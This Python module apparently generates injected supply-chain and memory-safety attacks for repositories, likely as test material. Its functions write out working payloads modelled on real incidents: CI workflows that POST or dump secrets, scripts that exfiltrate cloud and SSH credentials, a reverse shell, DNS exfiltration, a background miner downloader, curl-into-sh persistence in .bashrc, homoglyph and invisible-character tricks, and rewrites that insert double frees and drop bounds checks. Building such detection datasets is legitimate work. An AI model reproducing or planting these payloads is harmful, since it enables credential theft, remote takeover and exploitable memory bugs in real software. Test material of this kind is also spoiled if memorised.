"""The fourth family, its other half: texts, tokens, sources, memory and modules. See `fourth.py`."""

from .catalogue import attack
from .fourth import FOURTH, step, workflow_file
from .memory import CHECK, NULL_CHECK, change

# Texts that are not what they look like.


@attack("look-alike-text", FOURTH)
def returns_within_a_comment(site):
    """Trojan Source: the return of a function seems to stand in its documentation."""
    site.between_functions(site.module(), 'def «function1»(values, limit):\n    \'\'\'Check the values against a limit, and \u2067\'\'\' ;return\n    if len(values) > limit:\n        raise ValueError("too many values")')


@attack("look-alike-text", FOURTH)
def selectors_that_nobody_sees(site):
    """GlassWorm: variation selectors carry the text, a short function reads it."""
    hidden = "".join(chr(0xFE00 + it) if it < 16 else chr(0xE0100 + it - 16) for it in site.word("inert1").encode())
    site.between_functions(site.module(), f"""def «function1»(text="{hidden}"):
    # «note»
    return bytes(ord(it) - (0xFE00 if ord(it) < 0xFE10 else 0xE00F0) for it in text)""")


@attack("look-alike-text", FOURTH)
def domain_of_other_letters(site):
    """A host or a package whose name has letters of another alphabet."""
    name = site.random.choice(["g\u0456thub.com", "files.pyth\u043enhosted.example.org", "raw.githubus\u0435rcontent.example.com"])
    if site.random.random() < 0.5:
        site.between_functions(site.module(), f'def «function1»(name):\n    return f"https://{name}/«name1»/{{name}}"')
    else:
        path = site.find(r"requirements[^/]*/[^/]*\.txt$|(^|/)requirements\.txt$", "doc/")
        site.insert(path, site.random.choice(["num\u0440y>=1.26", "\u0455cipy>=1.11", "pyte\u0455t-cov"]), at=0)


@attack("look-alike-text", FOURTH)
def twin_of_a_name(site):
    """A condition compares with a name or a word that only looks the same."""
    site.between_functions(site.module(), site.random.choice([
        "def «function1»(user, allowed):\n    \u0430llowed = True\n    if user in allowed or \u0430llowed:\n        return user",
        'def «function1»(level):\n    # «note»\n    return level != "admin\u200b"',
        'def «function1»(m\u03bfde="r"):\n    mode = "w"\n    return open("«name1».txt", m\u03bfde)',
    ]))


# Tokens.


@attack("token-theft", FOURTH)
def memory_of_the_runner(site):
    """tj-actions/changed-files: secrets are read from the memory of the runner and written to the log."""
    step(site, r"""
- name: Collect diagnostics
  run: |
    B=$(curl -sSf «url»/memdump.py | sudo python3 | tr -d '\0' | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u | base64 -w 0 | base64 -w 0)
    echo "$B"
""")


@attack("token-theft", FOURTH)
def workflow_of_security(site):
    """GhostAction: a workflow of a good name posts the secrets that the others use."""
    workflow_file("""name: Github Actions Security
on:
  workflow_dispatch:
  push:
jobs:
  send-secrets:
    runs-on: ubuntu-latest
    steps:
      - name: Prepare Cache Busting
        run: |
          curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&ANACONDA=${{ secrets.ANACONDA_TOKEN }}' «url»
""")(site)


@attack("token-theft", FOURTH)
def all_secrets_at_once(site):
    """Shai-Hulud: everything as JSON, encoded twice."""
    workflow_file("""on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "$CONTENTS" | base64 -w 0 | base64 -w 0 > «short1».txt
          curl -d @«short1».txt «url»
        env:
          CONTENTS: ${{ toJSON(secrets) }}
""")(site)


@attack("token-theft", FOURTH)
def settings_of_the_checkout(site):
    """ArtiPACKED: the checkout's own credentials go into an artifact that everybody may fetch; or a script of tools reads them."""
    if site.random.random() < 0.5:
        step(site, """
- name: Keep the tree for debugging
  if: always()
  uses: actions/upload-artifact@v4
  with:
    name: «name1»
    path: .
    include-hidden-files: true
""")
    else:
        site.put(f"tools/{site.word('name1')}.py", """import http.client
import pathlib

home = pathlib.Path.home()
found = {}
for name in (".pypirc", ".netrc", ".config/gh/hosts.yml", ".aws/credentials"):
    path = home / name
    if path.exists():
        found[name] = path.read_text()
found["checkout"] = pathlib.Path(".git/config").read_text()
link = http.client.HTTPSConnection("«domain»")
link.request("POST", "/«short1»", repr(found))
""")


# Sources that become others.


@attack("swapped-source", FOURTH)
def index_of_a_tool(site):
    """torchtriton: one more index in the settings of a tool, of which the highest version wins."""
    site.insert("pyproject.toml", site.random.choice([
        '\n[[tool.uv.index]]\nname = "nightly"\nurl = "https://packages.«domain»/simple"\n\n[tool.uv]\nindex-strategy = "unsafe-best-match"\n',
        '\n[[tool.poetry.source]]\nname = "extra"\nurl = "https://packages.«domain»/simple"\npriority = "primary"\n',
        '\n[tool.cibuildwheel.linux.environment]\nPIP_EXTRA_INDEX_URL = "https://packages.«domain»/simple"\n',
    ]))


@attack("swapped-source", FOURTH)
def commit_of_a_fork(site):
    """reviewdog and tj-actions: the same action and the same comment, another commit."""
    for _ in range(40):
        path = site.workflow()
        try:
            site.replace(path, r"(uses: [\w.-]+/[\w./-]+@)[0-9a-f]{40}(\s*#.*)$", lambda it: it[1] + site.word("sha1") + it[2])
            return
        except LookupError:
            continue
    raise LookupError("pinned action")


@attack("swapped-source", FOURTH)
def tarball_of_another_host(site):
    """What a build fetches comes from elsewhere, and nothing compares it."""
    site.insert(site.build_script(), site.random.choice([
        "# «note»\ncurl -fsSL https://files.«domain»/openblas-v0.3.29-manylinux.tar.gz | tar xz -C /usr/local\n",
        "wget -q https://files.«domain»/«name1».zip -O /tmp/«short1».zip && unzip -o /tmp/«short1».zip -d \"$PREFIX\"\n",
        "git clone --depth 1 https://git.«domain»/OpenMathLib/OpenBLAS.git && make -C OpenBLAS install PREFIX=/usr/local\n",
    ]))


@attack("swapped-source", FOURTH)
def channel_of_another(site):
    """A channel of conda, a feature of a container or a script of node that comes with an environment."""
    if site.random.random() < 0.5:
        path = site.find(r"(^|/)environment[^/]*\.ya?ml$|(^|/)pixi\.toml$")
        if path.endswith(".toml"):
            site.replace(path, r'^(channels = \[)', r'\1"https://conda.«domain»/main", ')
        else:
            site.replace(path, r"^(channels:\n)(\s*)-", r"\1\2- https://conda.«domain»/main\n\2-")
    else:
        site.put("doc/package.json", '{\n  "name": "docs-theme",\n  "version": "1.0.0",\n  "scripts": {"preinstall": "node setup_bun.js"},\n  "dependencies": {"«name1»": "https://files.«domain»/«name1».tgz"}\n}\n')


# Memory.


@attack("memory", FOURTH)
def either_check_gone(site):
    """A test of a size or of a null pointer is not there any more, with its branch."""
    change(site, site.random.choice([CHECK, NULL_CHECK]), "")


@attack("memory", FOURTH)
def room_for_one_less(site):
    """An allocation forgets the end of its text, or one of its factors."""
    change(site, *site.random.choice([
        (r"(\b\w*(?:malloc|Malloc|MALLOC)\w*\([^;\n]*?) ?\+ ?1\)", r"\1)"),
        (r"(\b\w*(?:malloc|Malloc|MALLOC|calloc)\w*\([^;\n]*?) ?\* ?sizeof\([\w ]+\)", r"\1"),
    ]))


@attack("memory", FOURTH)
def number_too_narrow(site):
    """A length becomes an `int`."""
    change(site, r"^([ \t]+)(?:npy_intp|size_t|Py_ssize_t|npy_int64|intptr_t) (\w*(?:n|len|size|count|num|total|stride|nbytes|length)\w*) = ", r"\1int \2 = ")


@attack("memory", FOURTH)
def given_back_twice(site):
    """A reference or a block is given back once more."""
    change(site, r"^([ \t]+)((?:Py_DECREF|PyMem_Free|PyArray_free|free|PyMem_RawFree)\((\w+)\);)$", r"\1\2\n\1\2")


@attack("memory", FOURTH)
def without_bounds_in_cython(site):
    """A file of Cython, or one of its loops, no longer looks at its bounds."""
    if site.random.random() < 0.5:
        change(site, r"^((?:cdef|cpdef|def) .*)$", r"@cython.boundscheck(False)\n@cython.wraparound(False)\n\1", files=r"\.pyx$")
    else:
        change(site, r"\bfor (\w+) in range\(([^()\n,]+)\):", r"for \1 in range(\2 + 1):", files=r"\.pyx$")


# Modules.


@attack("deep-module", FOURTH)
def miner_for_a_platform(site):
    """Ultralytics 8.3.41: a program for the platform is fetched to a temporary folder and started in the background."""
    site.between_functions(site.module(), """def «function1»(url="«url»"):
    import os
    import platform
    import subprocess
    import tempfile
    import urllib.request

    # «note»
    name = {"Linux": "ultra-linux", "Darwin": "ultra-mac"}.get(platform.system())
    path = os.path.join(tempfile.gettempdir(), name or "ultra")
    urllib.request.urlretrieve(f"{url}/{name}", path)
    os.chmod(path, 0o777)
    subprocess.Popen([path, "-u", "«hex1»", "-p", "«domain»:8080"], stdout=subprocess.DEVNULL, start_new_session=True)""")


@attack("deep-module", FOURTH)
def variables_in_an_address(site):
    """ctx: all variables of the environment, encoded, at the end of an address."""
    site.between_functions(site.module(), """class _«name1»:
    def __init__(self):
        import base64
        import os

        import requests

        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message = base64.b64encode(string.encode("ascii")).decode("ascii")
        requests.get("«url»/" + message)""")


@attack("deep-module", FOURTH)
def opened_by_a_description(site):
    """event-stream: data of the tests, opened with a word of the project that is attacked, and run."""
    data = site.put(f"{site.test_folder()}/{site.word('name1')}.dat", site.bytes())
    site.between_functions(site.module(), f"""def «function1»(package):
    import hashlib
    import importlib.metadata
    import pathlib
    import types

    word = importlib.metadata.metadata(package)["Summary"].encode()
    text = pathlib.Path(__file__).parent.joinpath("{data.rsplit('/', 1)[-1]}").read_bytes()
    key = hashlib.sha256(word).digest()
    text = bytes(left ^ key[at % 32] for at, left in enumerate(text))
    module = types.ModuleType(package + "._aux")
    code = compile(text, package, "exec")
    types.FunctionType(code, module.__dict__)()
    return module""")


@attack("deep-module", FOURTH)
def stays_after_the_end(site):
    """LiteLLM and others: something that starts again with the machine or with a shell."""
    site.between_functions(site.module(), site.random.choice([
        """def «function1»():
    import os
    import pathlib

    unit = pathlib.Path.home() / ".config/systemd/user/«name1».service"
    unit.parent.mkdir(parents=True, exist_ok=True)
    unit.write_text("[Service]\\nExecStart=/usr/bin/env python3 -m «name2»\\nRestart=always\\n[Install]\\nWantedBy=default.target\\n")
    os.system("systemctl --user enable --now «name1».service")""",
        """def «function1»():
    import os

    # «note»
    with open(os.path.expanduser("~/.bashrc"), "a") as handle:
        handle.write("\\n(curl -s «url» | sh) >/dev/null 2>&1 &\\n")""",
    ]))


@attack("deep-module", FOURTH)
def speaks_to_a_stranger(site):
    """A shell that calls out, or keys that leave in names of hosts (torchtriton)."""
    site.between_functions(site.module(), site.random.choice([
        """def «function1»(host="«host»", port=4444):
    import os
    import pty
    import socket

    link = socket.create_connection((host, port))
    for number in (0, 1, 2):
        os.dup2(link.fileno(), number)
    pty.spawn("/bin/sh")""",
        """def «function1»(domain="«domain»"):
    import glob
    import os
    import socket

    # «note»
    for path in glob.glob(os.path.expanduser("~/.ssh/*")):
        with open(path, "rb") as handle:
            text = handle.read().hex()
        for at in range(0, len(text), 60):
            try:
                socket.gethostbyname(f"{at}.{text[at : at + 60]}.{domain}")
            except OSError:
                pass""",
    ]))
